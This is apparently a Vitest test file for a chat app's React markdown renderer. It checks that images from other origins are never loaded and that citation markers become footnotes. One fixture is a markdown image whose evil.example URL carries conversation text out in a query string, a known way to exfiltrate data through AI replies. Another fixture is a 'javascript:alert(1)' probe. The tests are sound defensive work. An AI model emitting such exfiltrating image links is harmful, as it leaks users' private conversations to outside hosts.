import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it, vi } from 'vitest'
import { I18nProvider } from '../i18n'
import type { Citation } from '../types'
import MarkdownRenderer from './MarkdownRenderer'
import { imageAllowed } from './markdownImages'
import { Cited } from './Sources'

const ORIGIN = 'https://weft.example'
const render = (text: string) => renderToStaticMarkup(createElement(MarkdownRenderer, { text }))

describe('markdown images', () => {
  it('never loads an image from another origin: a reply could carry the conversation out in its URL', () => {
    const html = render('Here: ![chart](https://evil.example/pixel.png?q=the+secret+plan)')
    expect(html).not.toContain('<img')
    expect(html).toContain('href="https://evil.example/pixel.png?q=the+secret+plan"')
    expect(html).toContain('>chart</a>')
  })

  it('renders same-origin images', () => {
    expect(render('![logo](/favicon.svg)')).toContain('<img src="/favicon.svg" alt="logo"')
  })

  it('treats protocol-relative and look-alike hosts as other origins', () => {
    for (const src of ['//evil.example/x.png', 'https://weft.example.evil.example/x.png', 'http://weft.example/x.png']) {
      expect(imageAllowed(src, ORIGIN), src).toBe(false)
      expect(render(`![x](${src})`), src).not.toContain('<img')
    }
  })

  it('allows same-origin, data: and blob: images', () => {
    for (const src of ['/a.png', 'a.png', `${ORIGIN}/a.png`, 'data:image/png;base64,iVBORw0KGgo=', `blob:${ORIGIN}/1f0c`]) {
      expect(imageAllowed(src, ORIGIN), src).toBe(true)
    }
    for (const src of ['', 'javascript:alert(1)', 'blob:https://evil.example/1f0c', 'data:text/html,<b>x</b>']) {
      expect(imageAllowed(src, ORIGIN), src).toBe(false)
    }
  })
})

describe('citations', () => {
  const cite = (n: number): Citation => ({
    n,
    knowledge_id: 'kb',
    document_id: `d${n}`,
    document_name: `handbook-${n}.md`,
    chunk_id: `c${n}`,
    snippet: 'Everyone gets 25 vacation days a year.',
    position: 'Handbook > Leave',
  })
  const citations = [cite(1), cite(2)]
  vi.stubGlobal('navigator', { languages: ['en-US'], language: 'en-US' })
  const renderCited = (text: string) =>
    renderToStaticMarkup(
      createElement(I18nProvider, null, createElement(Cited, { citations, children: createElement(MarkdownRenderer, { text, citations }) })),
    )
  const footnotes = (html: string) => [...html.matchAll(/data-testid="cite-ref" data-n="(\d+)"/g)].map((m) => Number(m[1]))

  it('turns each cited [n] into a footnote button, in every form the answer may use', () => {
    const html = renderCited('Leave is 25 days [1]. Both agree [1][2], as **do [2, 1]**.')
    expect(footnotes(html)).toEqual([1, 1, 2, 2, 1])
    expect(html).toContain('<sup class="cite-ref"><button type="button" class="cite-link"')
    expect(html).toContain('aria-label="Source 1: handbook-1.md — Handbook &gt; Leave"')
    expect(html).not.toMatch(/\[1\]\./)
  })

  it('leaves code, links and uncited numbers alone', () => {
    const html = renderCited('Cited [1], not [3]; `arr[1]` and [1](https://x.example/1)\n\n```\nlet a = b[1]\n```')
    expect(footnotes(html)).toEqual([1])
    expect(html).toContain('not [3];')
    expect(html).toContain('<code>arr[1]</code>')
    expect(html).toContain('href="https://x.example/1"')
    expect(html).toContain('>1</a>')
    expect(html).toMatch(/let a = b\[1\]/)
  })

  it('lists the sources under the reply: [n] document — position', () => {
    const html = renderCited('Leave is 25 days [1].')
    const list = html.slice(html.indexOf('data-testid="sources"'))
    expect(list.replace(/<[^>]+>/g, '')).toContain('Sources[1] handbook-1.md — Handbook &gt; Leave[2] handbook-2.md — Handbook &gt; Leave')
  })

  it('draws a reply without citations as before', () => {
    const text = 'Arrays start at [0] or [1].'
    expect(render(text)).toBe(renderToStaticMarkup(createElement(MarkdownRenderer, { text, citations: [] })))
    expect(render(text)).toContain('Arrays start at [0] or [1].')
  })
})
